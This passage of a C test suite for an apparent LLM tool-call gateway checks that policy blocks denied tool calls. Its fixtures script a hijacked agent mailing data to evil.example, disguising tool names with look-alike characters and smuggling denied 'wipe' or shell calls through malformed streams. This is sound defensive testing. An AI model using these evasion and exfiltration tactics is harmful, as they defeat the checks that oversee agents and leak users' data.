/* Tools through whole transactions: every API, whole and streamed, in every cut. What policy
 * denies never reaches the client. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "tx_house.h"

static const char policy_yaml[] =
    BASE "tools:\n"
         "  - {name: look, effect: read, egress: false, trusted_result: true}\n"
         "  - {name: fetch, effect: read}\n"
         "  - {name: note, effect: write, egress: false}\n"
         "  - name: mail\n"
         "    effect: irreversible\n"
         "    schema: "
         "'{\"type\":\"object\",\"properties\":{\"to\":{\"type\":\"string\",\"format\":\"email\","
         "\"hosts\":[\"good.example\"]},\"body\":{\"type\":\"string\",\"maxLength\":40}},"
         "\"required\":[\"to\"]}'\n"
         "  - {name: pay, call: approve, effect: irreversible}\n"
         "  - {name: wipe, call: deny}\n"
         "  - {name: shout, schema: '{\"type\":\"string\",\"maxLength\":5}'}\n"
         "  - {name: twice, repeats: 2}\n"
         "agent:\n"
         "  calls_max: 6\n"
         "  hosts: [good.example]\n"
         "data:\n  rules: [{types: [EMAIL_ADDRESS], action: allow}]\n";
static const char remove_yaml[] = BASE "tools: [{name: look}]\nagent: {offers: remove}\n";
static const char plain_yaml[] = BASE;
static struct house strict, removing, plain;

static int open_all(void **state) {
    (void)state;
    return open_house(&strict, policy_yaml, NULL, 0) &&
                   open_house(&removing, remove_yaml, NULL, 0) &&
                   open_house(&plain, plain_yaml, NULL, 0)
               ? 0
               : -1;
}

static int close_all(void **state) {
    (void)state;
    close_house(&strict);
    close_house(&removing);
    close_house(&plain);
    return 0;
}

/* ---- scenarios: what an obeying model tries ---- */

static const struct {
    const char *what, *name, *args, *code; /* code NULL: passes */
    enum context context;
    const char *label, *past_tool, *past_args;
    unsigned past;
} scenarios[] = {
    {"a listed tool", "look", "{\"x\":\"fine\"}", NULL, 0, 0, 0, 0, 0},
    {"an unlisted tool", "run_shell", "{\"x\":\"" BAD "\"}", "tool_denied", 0, 0, 0, 0, 0},
    {"a denied tool", "wipe", "{\"x\":\"" BAD "\"}", "tool_denied", 0, 0, 0, 0, 0},
    {"another case", "Look", "{\"x\":\"" BAD "\"}", "tool_denied", 0, 0, 0, 0, 0},
    {"a name within a name", "looks", "{\"x\":\"" BAD "\"}", "tool_denied", 0, 0, 0, 0, 0},
    {"a Cyrillic letter", "l\xd0\xbeok", "{\"x\":\"" BAD "\"}", "tool_denied", 0, 0, 0, 0, 0},
    {"a letter without width", "look\xe2\x80\x8b", "{\"x\":\"" BAD "\"}", "tool_denied", 0, 0, 0, 0,
     0},
    {"a tag character", "look\xf3\xa0\x81\xa1", "{\"x\":\"" BAD "\"}", "tool_denied", 0, 0, 0, 0,
     0},
    {"a blank behind", "look ", "{\"x\":\"" BAD "\"}", "tool_denied", 0, 0, 0, 0, 0},
    {"a placeholder", "<LOOK_aaaaaaaa>", "{\"x\":\"" BAD "\"}", "tool_denied", 0, 0, 0, 0, 0},
    {"mail inside", "mail", "{\"to\":\"a@good.example\",\"body\":\"hi\"}", NULL, 0, 0, 0, 0, 0},
    {"mail outside", "mail", "{\"to\":\"" BAD "@evil.example\"}", "tool_argument", 0, 0, 0, 0, 0},
    {"mail to a look-alike", "mail", "{\"to\":\"" BAD "@good.example.evil.example\"}",
     "tool_argument", 0, 0, 0, 0, 0},
    {"mail to two", "mail", "{\"to\":\"a@good.example," BAD "@evil.example\"}", "tool_argument", 0,
     0, 0, 0, 0},
    {"a hidden copy", "mail", "{\"to\":\"a@good.example\",\"bcc\":\"" BAD "@evil.example\"}",
     "tool_argument", 0, 0, 0, 0, 0},
    {"a long mail", "mail", "{\"to\":\"a@good.example\",\"body\":\"" BAD BAD BAD BAD "\"}",
     "tool_argument", 0, 0, 0, 0, 0},
    {"no recipient", "mail", "{\"body\":\"" BAD "\"}", "tool_argument", 0, 0, 0, 0, 0},
    {"a list for an object", "mail", "[\"" BAD "\"]", "tool_argument", 0, 0, 0, 0, 0},
    {"a payment unasked", "pay", "{\"x\":\"" BAD "\"}", "tool_approval", 0, 0, 0, 0, 0},
    {"a fetch after a page", "fetch", "{\"x\":\"fine\"}", NULL, C_UNTRUSTED, 0, 0, 0, 0},
    {"a fetch of secrets", "fetch", "{\"x\":\"fine\"}", NULL, C_NONE, "CONFIDENTIAL", 0, 0, 0},
    {"secrets after a page", "fetch", "{\"x\":\"" BAD "\"}", "tool_taint", C_UNTRUSTED,
     "CONFIDENTIAL", 0, 0, 0},
    {"secrets after a clock", "fetch", "{\"x\":\"fine\"}", NULL, C_TRUSTED, "CONFIDENTIAL", 0, 0,
     0},
    {"a note after a page", "note", "{\"x\":\"fine\"}", NULL, C_UNTRUSTED, "CONFIDENTIAL", 0, 0, 0},
    {"mail after a page", "mail", "{\"to\":\"" BAD "@good.example\"}", "tool_approval", C_UNTRUSTED,
     0, 0, 0, 0},
    {"mail after a clock", "mail", "{\"to\":\"a@good.example\"}", NULL, C_TRUSTED, 0, 0, 0, 0},
    {"mail of secrets after a page", "mail", "{\"to\":\"" BAD "@good.example\"}", "tool_taint",
     C_UNTRUSTED, "RESTRICTED", 0, 0, 0},
    {"the second time", "twice", "{\"a\":1,\"b\":2}", NULL, 0, 0, "twice", "{\"a\":1,\"b\":2}", 1},
    {"the third time", "twice", "{\"x\":\"" BAD "\"}", "tool_loop", 0, 0, "twice",
     "{\"x\":\"" BAD "\"}", 2},
    {"the third, spelled otherwise", "twice", "{ \"b\":2.0,\"a\":\"" BAD "\" }", "tool_loop", 0, 0,
     "twice", "{\"a\":\"" BAD "\",\"b\":2}", 2},
    {"the third, other arguments", "twice", "{\"a\":3}", NULL, 0, 0, "twice", "{\"a\":1,\"b\":2}",
     2},
    {"the sixth call", "look", "{\"x\":\"fine\"}", NULL, 0, 0, "note", "{}", 5},
    {"the seventh call", "look", "{\"x\":\"" BAD "\"}", "tool_loop", 0, 0, "note", "{}", 6},
};

static bool fits_form(enum form f, size_t i) {
    bool custom = f == F_CUSTOM || f == F_ITEM_CUSTOM;
    return !custom || strcmp(scenarios[i].name, "mail") != 0; /* free text is no object */
}

static void one(enum form f, bool stream, size_t i, size_t cut) {
    struct asked q = {.form = f,
                      .stream = stream,
                      .context = scenarios[i].context,
                      .label = scenarios[i].label,
                      .past_tool = scenarios[i].past_tool,
                      .past_args = scenarios[i].past_args,
                      .past = scenarios[i].past};
    struct run r;
    struct bz_buf b;
    bool custom = f == F_CUSTOM || f == F_ITEM_CUSTOM;
    const char *code = scenarios[i].code;
    if (custom && scenarios[i].past > 0 && strcmp(scenarios[i].past_tool, "twice") == 0)
        return; /* other arguments: free text */
    ask(&r, &strict, &q);
    if (r.verdict != BZ_VERDICT_FORWARD)
        fail_msg("%s: %.*s", scenarios[i].what, E(bz_tx_reply(r.tx)->body));
    bz_buf_init(&b, 1 << 16);
    (stream ? put_stream : put_whole)(&b, f, scenarios[i].name, scenarios[i].args);
    assert_int_equal(bz_buf_status(&b), BZ_OK);
    answer(&r, stream, f, bz_buf_view(&b), cut);
    struct bz_view out = got(&r);
    bool passed = gw_contains(out, code == NULL ? scenarios[i].name : BAD);
    bool ok = code == NULL
                  ? passed && r.st == BZ_OK && !gw_contains(out, "\"error\"")
                  : !passed && (stream || f == F_OLLAMA || bz_tx_reply(r.tx)->status == 403);
    if (code != NULL && f != F_MESSAGES && f != F_OLLAMA)
        ok &= gw_contains(out, code);
    if (code != NULL && strcmp(code, "tool_denied") == 0 && stream) /* not even its beginning */
        ok &= !gw_contains(out, "tool_calls\":[") && !gw_contains(out, "tool_use\",\"id") &&
              !gw_contains(out, "_call\",\"id");
    if (!ok)
        fail_msg("%s, form %d, %s, cut %zu: %d %.*s", scenarios[i].what, f,
                 stream ? "stream" : "whole", cut, r.st, E(out));
    bz_buf_free(&b);
    done(&r);
}

static void what_is_denied_never_leaves(void **state) {
    (void)state;
    for (int f = 0; f < F_COUNT; f++)
        for (size_t i = 0; i < N(scenarios); i++)
            for (int stream = 0; stream < 2 && fits_form((enum form)f, i); stream++)
                one((enum form)f, stream != 0, i, 0);
}

/* The same bytes for every cut of the stream. */
static void every_cut_says_the_same(void **state) {
    static const size_t which[] = {0, 1, 11, 18, 21};
    (void)state;
    for (int f = 0; f < F_COUNT; f++) {
        for (size_t k = 0; k < N(which); k++) {
            struct asked q = {.form = (enum form)f,
                              .stream = true,
                              .context = scenarios[which[k]].context,
                              .label = scenarios[which[k]].label};
            struct bz_buf b, first;
            if (!fits_form((enum form)f, which[k]))
                continue;
            bz_buf_init(&b, 1 << 16);
            bz_buf_init(&first, 1 << 20);
            put_stream(&b, (enum form)f, scenarios[which[k]].name, scenarios[which[k]].args);
            for (size_t cut = 0; cut < b.n; cut += cut < 80 ? 1 : 37) {
                struct run r;
                ask(&r, &strict, &q);
                answer(&r, true, (enum form)f, bz_buf_view(&b), cut);
                struct bz_view out = got(&r);
                const uint8_t *err = memmem(out.p, out.n, "\"error\"", 7); /* names the request */
                if (err != NULL)
                    out.n = (size_t)(err - out.p);
                if (cut == 0)
                    bz_buf_put(&first, out);
                if (!bz_view_eq(out, bz_buf_view(&first)))
                    fail_msg("form %d, %s, cut %zu:\n%.*s\n%.*s", f, scenarios[which[k]].what, cut,
                             E(out), E(bz_buf_view(&first)));
                done(&r);
            }
            bz_buf_free(&b);
            bz_buf_free(&first);
        }
    }
}

/* ---- streams that lie ---- */

#define CHUNK(delta, end)                                                                          \
    "data: {\"choices\":[{\"index\":0,\"delta\":{" delta "},\"finish_reason\":" end "}]}\n\n"
#define CALLS(of) CHUNK("\"tool_calls\":[" of "]", "null")
#define FN(i, id, name, args)                                                                      \
    "{\"index\":" i ",\"id\":\"" id "\",\"type\":\"function\",\"function\":{\"name\":\"" name      \
    "\",\"arguments\":\"" args "\"}}"
#define PART(i, of) "{\"index\":" i ",\"function\":{" of "}}"
#define END CHUNK("", "\"tool_calls\"") "data: [DONE]\n\n"
#define ADDED(i, id, name)                                                                         \
    "data: {\"type\":\"response.output_item.added\",\"output_index\":" i                           \
    ",\"item\":{\"type\":\"function_call\",\"id\":\"" id "\",\"call_id\":\"c" i                    \
    "\",\"name\":\"" name "\",\"arguments\":\"\"}}\n\n"
#define DONE_ARGS(i, id, args)                                                                     \
    "data: {\"type\":\"response.function_call_arguments.done\",\"item_id\":\"" id                  \
    "\",\"output_index\":" i ",\"arguments\":\"" args "\"}\n\n"
#define ITEM(id, name, args)                                                                       \
    "{\"type\":\"function_call\",\"id\":\"" id "\",\"call_id\":\"c\",\"name\":\"" name             \
    "\",\"arguments\":\"" args "\"}"
#define DONE_ITEM(i, id, name, args)                                                               \
    "data: {\"type\":\"response.output_item.done\",\"output_index\":" i                            \
    ",\"item\":" ITEM(id, name, args) "}\n\n"
#define COMPLETED(items)                                                                           \
    "data: "                                                                                       \
    "{\"type\":\"response.completed\",\"response\":{\"id\":\"r\",\"object\":\"response\","         \
    "\"status\":\"completed\",\"output\":[" items "]}}\n\n"
#define BLOCK(i, name, input)                                                                      \
    "data: {\"type\":\"content_block_start\",\"index\":" i                                         \
    ",\"content_block\":{\"type\":\"tool_use\",\"id\":\"c" i "\",\"name\":\"" name                 \
    "\",\"input\":" input "}}\n\n"
#define PARTIAL(i, json)                                                                           \
    "data: {\"type\":\"content_block_delta\",\"index\":" i                                         \
    ",\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"" json "\"}}\n\n"
#define STOP(i) "data: {\"type\":\"content_block_stop\",\"index\":" i "}\n\n"
#define START                                                                                      \
    "data: "                                                                                       \
    "{\"type\":\"message_start\",\"message\":{\"id\":\"m\",\"type\":\"message\",\"role\":"         \
    "\"assistant\",\"model\":\"tiny\",\"content\":[],\"usage\":{\"input_tokens\":1,\"output_"      \
    "tokens\":1}}}\n\n"
#define OVER                                                                                       \
    "data: "                                                                                       \
    "{\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"tool_use\"},\"usage\":{\"output_"    \
    "tokens\":5}}\n\ndata: {\"type\":\"message_stop\"}\n\n"
static const struct {
    const char *what;
    enum form form;
    const char *sse;
    bool passes;
} tricks[] = {
    {"two good calls side by side", F_CHAT,
     CALLS(FN("0", "a", "look", "")) CALLS(FN("1", "b", "note", ""))
         CALLS(PART("0", "\"arguments\":\"{}\"")) CALLS(PART("1", "\"arguments\":\"{}\"")) END,
     true},
    {"two in one delta", F_CHAT,
     CALLS(FN("0", "a", "look", "{}") "," FN("1", "b", "note", "{}")) END, true},
    {"a bad one beside a good one", F_CHAT,
     CALLS(FN("0", "a", "look", "{}")) CALLS(FN("1", "b", "wipe", BAD)) END, false},
    {"a bad one first", F_CHAT, CALLS(FN("0", "a", "wipe", BAD) "," FN("1", "b", "look", "{}")) END,
     false},
    {"a name in two pieces", F_CHAT,
     CALLS(FN("0", "a", "wi", "")) CALLS(PART("0", "\"name\":\"pe\",\"arguments\":\"" BAD "\""))
         END,
     false},
    {"a good name in two pieces", F_CHAT,
     CALLS(FN("0", "a", "lo", "")) CALLS(PART("0", "\"name\":\"ok\",\"arguments\":\"" BAD "\""))
         END,
     false},
    {"a good name, then another", F_CHAT,
     CALLS(FN("0", "a", "look", "")) CALLS(PART("0", "\"name\":\"wipe\",\"arguments\":\"" BAD "\""))
         END,
     false},
    {"two ids at one index", F_CHAT,
     CALLS(FN("0", "a", "look", "{}")) CALLS(FN("0", "b", "note", "{\\\"x\\\":\\\"" BAD "\\\"}"))
         END,
     false},
    {"arguments under another id", F_CHAT,
     CALLS(FN("0", "a", "look", "")) CALLS("{\"index\":0,\"id\":\"b\",\"function\":{\"arguments\":"
                                           "\"{\\\"x\\\":\\\"" BAD "\\\"}\"}}") END,
     false},
    {"one id twice", F_CHAT, CALLS(FN("0", "a", "look", "{}")) CALLS(FN("1", "a", "wipe", BAD)) END,
     false},
    {"no name", F_CHAT, CALLS("{\"index\":0,\"function\":{\"arguments\":\"" BAD "\"}}") END, false},
    {"no JSON", F_CHAT, CALLS(FN("0", "a", "look", "{\\\"" BAD)) END, false},
    {"a key twice", F_CHAT,
     CALLS(FN("0", "a", "look", "{\\\"a\\\":1,\\\"a\\\":\\\"" BAD "\\\"}")) END, false},
    {"two objects", F_CHAT, CALLS(FN("0", "a", "look", "{}{\\\"a\\\":\\\"" BAD "\\\"}")) END,
     false},
    {"function and custom at once", F_CHAT,
     CALLS("{\"index\":0,\"id\":\"a\",\"function\":{\"name\":\"look\",\"arguments\":\"{}\"},"
           "\"custom\":{\"name\":\"wipe\",\"input\":\"" BAD "\"}}") END,
     false},
    {"arguments parsed beforehand", F_CHAT,
     CALLS("{\"index\":0,\"id\":\"a\",\"function\":{\"name\":\"look\",\"arguments\":\"{}\","
           "\"parsed_arguments\":{\"x\":\"" BAD "\"}}}") END,
     false},
    {"both kinds of calls", F_CHAT,
     CALLS(FN("0", "a", "look", "{}"))
         CHUNK("\"function_call\":{\"name\":\"wipe\",\"arguments\":\"" BAD "\"}", "null") END,
     false},
    {"no end", F_CHAT, CALLS(FN("0", "a", "wipe", BAD)) "data: [DONE]\n\n", false},
    {"in the last event", F_CHAT,
     CHUNK("\"tool_calls\":[" FN("0", "a", "wipe", BAD) "]", "\"stop\"") "data: [DONE]\n\n", false},
    {"a message in a stream", F_CHAT,
     "data: "
     "{\"choices\":[{\"index\":0,\"delta\":{},\"message\":{\"role\":\"assistant\",\"tool_calls\":"
     "[" FN("0", "a", "wipe", BAD) "]},\"finish_reason\":null}]}\n\n" END,
     false},
    {"another choice", F_CHAT,
     "data: "
     "{\"choices\":[{\"index\":0,\"delta\":{\"content\":\"x\"},\"finish_reason\":null},{\"index\":"
     "1,\"delta\":{\"tool_calls\":[" FN("0", "a", "wipe",
                                        BAD) "]},\"finish_reason\":null}]}\n\n" END,
     false},
    {"good calls", F_RESPONSES,
     ADDED("0", "f", "look") DONE_ARGS("0", "f", "{}") DONE_ITEM("0", "f", "look", "{}")
         COMPLETED(ITEM("f", "look", "{}")),
     true},
    {"items as llama.cpp names them", F_RESPONSES,
     "data: {\"type\":\"response.output_item.added\",\"item\":{\"type\":\"function_call\","
     "\"call_id\":\"fc_1\",\"name\":\"look\",\"arguments\":\"\",\"status\":\"in_progress\"}}\n\n"
     "data: "
     "{\"type\":\"response.function_call_arguments.delta\",\"item_id\":\"fc_1\",\"delta\":\"{}\"}"
     "\n\n"
     "data: "
     "{\"type\":\"response.function_call_arguments.done\",\"item_id\":\"fc_1\",\"arguments\":\"{}"
     "\"}\n\n"
     "data: "
     "{\"type\":\"response.output_item.done\",\"item\":{\"type\":\"function_call\",\"call_id\":"
     "\"fc_1\","
     "\"name\":\"look\",\"arguments\":\"{}\",\"status\":\"completed\"}}\n\n" COMPLETED(
         "{\"type\":\"function_call\",\"call_id\":\"fc_1\",\"name\":\"look\",\"arguments\":\"{}"
         "\"}"),
     true},
    {"another name when it is done", F_RESPONSES,
     ADDED("0", "f", "look") DONE_ARGS("0", "f", "{}") DONE_ITEM(
         "0", "f", "wipe", "{\\\"x\\\":\\\"" BAD "\\\"}") COMPLETED(ITEM("f", "look", "{}")),
     false},
    {"a bad name when it begins", F_RESPONSES,
     ADDED("0", "f", "wipe") DONE_ITEM("0", "f", "look", "{\\\"x\\\":\\\"" BAD "\\\"}")
         COMPLETED(ITEM("f", "look", "{}")),
     false},
    {"only in the last event", F_RESPONSES,
     COMPLETED(ITEM("f", "wipe", "{\\\"x\\\":\\\"" BAD "\\\"}")), false},
    {"other arguments in the last event", F_RESPONSES,
     ADDED("0", "f", "mail") DONE_ARGS("0", "f", "{\\\"to\\\":\\\"a@good.example\\\"}")
         DONE_ITEM("0", "f", "mail", "{\\\"to\\\":\\\"a@good.example\\\"}")
             COMPLETED(ITEM("f", "mail", "{\\\"to\\\":\\\"" BAD "@evil.example\\\"}")),
     false},
    {"arguments for another item", F_RESPONSES,
     ADDED("0", "f", "look") ADDED("1", "g", "mail")
         DONE_ARGS("0", "g", "{\\\"to\\\":\\\"" BAD "@evil.example\\\"}") COMPLETED(""),
     false},
    {"two items at one place", F_RESPONSES,
     ADDED("0", "f", "look") ADDED("0", "g", "note")
         DONE_ITEM("0", "g", "note", "{\\\"x\\\":\\\"" BAD "\\\"}") COMPLETED(""),
     false},
    {"arguments without an item", F_RESPONSES,
     DONE_ARGS("0", "f", "{\\\"x\\\":\\\"" BAD "\\\"}") COMPLETED(""), false},
    {"a shell", F_RESPONSES,
     "data: "
     "{\"type\":\"response.output_item.done\",\"output_index\":0,\"item\":{\"type\":\"local_shell_"
     "call\",\"id\":\"s\",\"action\":{\"type\":\"exec\",\"command\":[\"" BAD
     "\"]}}}\n\n" COMPLETED(""),
     false},
    {"good blocks", F_MESSAGES,
     START BLOCK("0", "look", "{}") PARTIAL("0", "{}") STOP("0") BLOCK("1", "note", "{}") STOP("1")
         OVER,
     true},
    {"whole input", F_MESSAGES, START BLOCK("0", "wipe", "{\"x\":\"" BAD "\"}") STOP("0") OVER,
     false},
    {"good input, bad pieces", F_MESSAGES,
     START BLOCK("0", "mail", "{\"to\":\"a@good.example\"}")
         PARTIAL("0", "{\\\"to\\\":\\\"" BAD "@evil.example\\\"}") STOP("0") OVER,
     false},
    {"bad input, good pieces", F_MESSAGES,
     START BLOCK("0", "mail", "{\"to\":\"" BAD "@evil.example\"}")
         PARTIAL("0", "{\\\"to\\\":\\\"a@good.example\\\"}") STOP("0") OVER,
     false},
    {"a block twice", F_MESSAGES,
     START BLOCK("0", "look", "{}") STOP("0") BLOCK("0", "note", "{\"x\":\"" BAD "\"}") STOP("0")
         OVER,
     false},
    {"pieces of no block", F_MESSAGES,
     START PARTIAL("3", "{\\\"x\\\":\\\"" BAD "\\\"}") STOP("3") OVER, false},
    {"blocks in the beginning", F_MESSAGES,
     "data: "
     "{\"type\":\"message_start\",\"message\":{\"id\":\"m\",\"type\":\"message\",\"role\":"
     "\"assistant\",\"model\":\"tiny\",\"content\":[{\"type\":\"tool_use\",\"id\":\"c\",\"name\":"
     "\"wipe\",\"input\":{\"x\":\"" BAD
     "\"}}],\"usage\":{\"input_tokens\":1,\"output_tokens\":1}}}\n\n" OVER,
     false},
    {"a server's tool", F_MESSAGES,
     START "data: "
           "{\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"server_"
           "tool_use\",\"id\":\"c\",\"name\":\"web_search\",\"input\":{\"q\":\"" BAD
           "\"}}}\n\n" STOP("0") OVER,
     false},
};

static void no_way_of_saying_it_passes(void **state) {
    (void)state;
    for (size_t i = 0; i < N(tricks); i++) {
        for (size_t cut = 0; cut < 64; cut += cut == 0 ? 1 : 21) {
            struct asked q = {.form = tricks[i].form, .stream = true};
            struct run r;
            ask(&r, &strict, &q);
            answer(&r, true, tricks[i].form, bz_view_str(tricks[i].sse), cut);
            struct bz_view out = got(&r);
            bool bad = gw_contains(out, BAD) || (tricks[i].passes ? r.st != BZ_OK : r.st == BZ_OK);
            if (bad)
                fail_msg("%s: %d %.*s", tricks[i].what, r.st, E(out));
            done(&r);
        }
    }
}

/* ---- requests ---- */

#define OFFER(n) "{\"type\":\"function\",\"function\":{\"name\":\"" n "\",\"parameters\":{}}}"
#define REQ(more)                                                                                  \
    "{\"model\":\"tiny\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]" more "}"
static const struct {
    const char *path, *body, *param; /* param NULL: passes */
} requests[] = {
    {CHAT, REQ(",\"tools\":[" OFFER("look") "," OFFER("pay") "]"), NULL},
    {CHAT, REQ(",\"tools\":[" OFFER("look") "," OFFER("wipe") "]"), "tools[1]"},
    {CHAT, REQ(",\"tools\":[" OFFER("look\\u200b") "]"), "tools[0]"},
    {CHAT, REQ(",\"functions\":[{\"name\":\"wipe\",\"parameters\":{}}]"), "functions[0]"},
    {CHAT, REQ(",\"tools\":[" OFFER("look") "],\"tool_choice\":\"auto\""), NULL},
    {CHAT,
     REQ(",\"tools\":[" OFFER(
         "look") "],\"tool_choice\":{\"type\":\"function\",\"function\":{\"name\":\"look\"}}"),
     NULL},
    {CHAT,
     REQ(",\"tools\":[" OFFER(
         "look") "],\"tool_choice\":{\"type\":\"function\",\"function\":{\"name\":\"wipe\"}}"),
     "tool_choice"},
    {"/v1/responses",
     "{\"model\":\"tiny\",\"input\":\"hi\",\"tools\":[{\"type\":\"function\",\"name\":\"wipe\","
     "\"parameters\":{}}]}",
     "tools[0]"},
    {"/v1/messages",
     "{\"model\":\"tiny\",\"max_tokens\":9,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],"
     "\"tools\":[{\"name\":\"wipe\",\"input_schema\":{\"type\":\"object\"}}]}",
     "wipe"},
    {"/v1/messages",
     "{\"model\":\"tiny\",\"max_tokens\":9,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],"
     "\"tools\":[{\"name\":\"look\",\"input_schema\":{\"type\":\"object\"}}],\"tool_choice\":{"
     "\"type\":\"tool\",\"name\":\"pay\"}}",
     NULL},
    {"/v1/messages",
     "{\"model\":\"tiny\",\"max_tokens\":9,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],"
     "\"tools\":[{\"name\":\"look\",\"input_schema\":{\"type\":\"object\"}}],\"tool_choice\":{"
     "\"type\":\"tool\",\"name\":\"wipe\"}}",
     "wipe"},
};

static void denied_tools_are_not_offered(void **state) {
    (void)state;
    for (size_t i = 0; i < N(requests); i++) {
        struct run r;
        send_body(&r, &strict.llama, requests[i].path, bz_view_str(requests[i].body), NULL);
        bool ok = requests[i].param == NULL
                      ? r.verdict == BZ_VERDICT_FORWARD
                      : r.verdict == BZ_VERDICT_REFUSE && bz_tx_reply(r.tx)->status / 100 == 4 &&
                            gw_contains(bz_tx_reply(r.tx)->body, requests[i].param);
        if (!ok)
            fail_msg("%s: %d %.*s", requests[i].body, r.verdict,
                     E(bz_tx_reply(r.tx) == NULL ? BZ_V("") : bz_tx_reply(r.tx)->body));
        done(&r);
    }
}

static void or_are_taken_out(void **state) {
    struct run r;
    (void)state;
    send_body(&r, &removing.llama, CHAT,
              BZ_V(REQ(",\"tools\":[" OFFER("wipe") "," OFFER("look") "," OFFER(
                  "pay") "],\"tool_choice\":\"auto\"")),
              NULL);
    assert_int_equal(r.verdict, BZ_VERDICT_FORWARD);
    struct bz_view body = bz_tx_forward(r.tx)->body;
    assert_true(gw_contains(body, "look") && gw_contains(body, "tool_choice"));
    assert_false(gw_contains(body, "wipe") || gw_contains(body, "pay"));
    done(&r);
    send_body(&r, &removing.llama, CHAT,
              BZ_V(REQ(",\"tools\":[" OFFER("wipe") "],\"tool_choice\":\"auto\"")), NULL);
    assert_int_equal(r.verdict, BZ_VERDICT_FORWARD);
    body = bz_tx_forward(r.tx)->body;
    assert_false(gw_contains(body, "tools") || gw_contains(body, "tool_choice"));
    done(&r);
}

/* ---- nothing listed ---- */

static void unlisted_tools_pass_and_are_recorded(void **state) {
    (void)state;
    for (int f = 0; f < F_COUNT; f++) {
        for (int stream = 0; stream < 2; stream++) {
            struct asked q = {.form = (enum form)f,
                              .stream = stream != 0,
                              .context = C_UNTRUSTED,
                              .label = "CONFIDENTIAL"};
            struct run r;
            struct bz_buf b;
            struct bz_record rec;
            uint8_t mem[BZ_RECORD_MAX];
            size_t n;
            ask(&r, &plain, &q);
            assert_int_equal(r.verdict, BZ_VERDICT_FORWARD);
            bz_buf_init(&b, 1 << 16);
            (stream ? put_stream : put_whole)(&b, (enum form)f, "anything", "{\"x\":1}");
            answer(&r, stream != 0, (enum form)f, bz_buf_view(&b), 11);
            if (!gw_contains(got(&r), "anything") || r.st != BZ_OK)
                fail_msg("form %d: %d %.*s", f, r.st, E(got(&r)));
            assert_true(gw_record(r.gw, r.tx, BZ_RECORD_CLOSE, mem, &rec, &n));
            if (!gw_contains(rec.findings, "tool:anything:allow:1"))
                fail_msg("form %d, %d: %.*s", f, stream, E(rec.findings));
            bz_buf_free(&b);
            done(&r);
        }
    }
}

static void denied_calls_are_recorded(void **state) {
    struct asked q = {.form = F_CHAT};
    struct run r;
    struct bz_buf b;
    struct bz_record rec;
    uint8_t mem[BZ_RECORD_MAX];
    size_t n;
    (void)state;
    ask(&r, &strict, &q);
    bz_buf_init(&b, 1 << 16);
    put_whole(&b, F_CHAT, "wipe", "{}");
    answer(&r, false, F_CHAT, bz_buf_view(&b), 0);
    assert_true(gw_record(r.gw, r.tx, BZ_RECORD_CLOSE, mem, &rec, &n));
    assert_true(gw_contains(rec.findings, "tool:wipe:deny:1"));
    assert_true(bz_view_eq(rec.reason, BZ_V("tool_denied")));
    bz_buf_free(&b);
    done(&r);
}

/* ---- approvals ---- */

static bool call_pay(struct house *h, const char *args, bool stream, uint8_t id[BZ_APPROVAL_LEN]) {
    struct asked q = {.form = F_CHAT, .stream = stream};
    struct run r;
    struct bz_buf b;
    ask(&r, h, &q);
    bz_buf_init(&b, 1 << 16);
    (stream ? put_stream : put_whole)(&b, F_CHAT, "pay", args);
    answer(&r, stream, F_CHAT, bz_buf_view(&b), 13);
    struct bz_view out = got(&r);
    bool passed = gw_contains(out, "\"pay\"");
    struct bz_record rec;
    uint8_t mem[BZ_RECORD_MAX];
    size_t rec_n;
    assert_true(gw_record(r.gw, r.tx, BZ_RECORD_CLOSE, mem, &rec, &rec_n));
    assert_true(gw_contains(rec.findings, passed ? "tool:pay:approved:1" : "tool:pay:approve:1"));
    const uint8_t *as = memmem(out.p, out.n, "very call as ", 13);
    for (size_t i = 0; !passed && as != NULL && i < BZ_APPROVAL_LEN; i++) {
        char two[3] = {(char)as[13 + 2 * i], (char)as[14 + 2 * i], 0};
        id[i] = (uint8_t)strtoul(two, NULL, 16);
    }
    assert_true(passed || as != NULL);
    bz_buf_free(&b);
    done(&r);
    return passed;
}

/* Bound to the canonical arguments, good once, then another approval is needed. */
static void an_approval_is_for_one_call(void **state) {
    struct bz_approval ok = {.expires = GW_NOW_S + 3600};
    uint8_t id[BZ_APPROVAL_LEN] = {0}, other[BZ_APPROVAL_LEN] = {0};
    struct house h;
    (void)state;
    assert_false(call_pay(&strict, "{\"to\":\"ann\",\"sum\":5}", false, ok.id));
    assert_false(call_pay(&strict, "{ \"sum\":5.0, \"to\":\"ann\" }", true, id));
    assert_memory_equal(id, ok.id, sizeof id); /* the same call, however it is spelled and sent */
    assert_false(call_pay(&strict, "{\"to\":\"bob\",\"sum\":5}", false, other));
    assert_memory_not_equal(other, ok.id, sizeof id);
    assert_true(open_house(&h, policy_yaml, &ok, 1));
    assert_false(call_pay(&h, "{\"to\":\"bob\",\"sum\":5}", false, other));
    assert_true(call_pay(&h, "{\"sum\":5,\"to\":\"ann\"}", true, id));
    assert_false(call_pay(&h, "{\"sum\":5,\"to\":\"ann\"}", true, id)); /* used up */
    assert_memory_not_equal(id, ok.id, sizeof id);
    close_house(&h);
    ok.expires = GW_NOW_S - 1;
    assert_true(open_house(&h, policy_yaml, &ok, 1));
    assert_false(call_pay(&h, "{\"sum\":5,\"to\":\"ann\"}", false, id));
    close_house(&h);
}

/* Every allocation may fail: an error, never a call that was not decided, nothing lost. */
static void no_memory_is_no_way_around(void **state) {
    struct bz_buf b, ask_for;
    struct asked q = {.form = F_CHAT, .stream = true, .context = C_UNTRUSTED};
    (void)state;
    bz_buf_init(&b, 1 << 16);
    bz_buf_init(&ask_for, 1 << 16);
    put_request(&ask_for, &q);
    put_stream(&b, F_CHAT, "wipe", "{\"x\":\"" BAD "\"}");
    bz_buf_putc(&ask_for, 0);
    for (uint64_t fail = 1; fail < 200; fail++) {
        struct gw_heap heap = {.fail_from = fail};
        struct gw_req req;
        struct bz_buf out;
        enum bz_verdict verdict;
        struct bz_backend backend;
        gw_req_init(&req, &strict.llama, GW_USER, "POST", CHAT, (const char *)ask_for.p);
        struct bz_tx *tx = gw_send(&strict.llama, &req, gw_heap_alloc(&heap), &verdict);
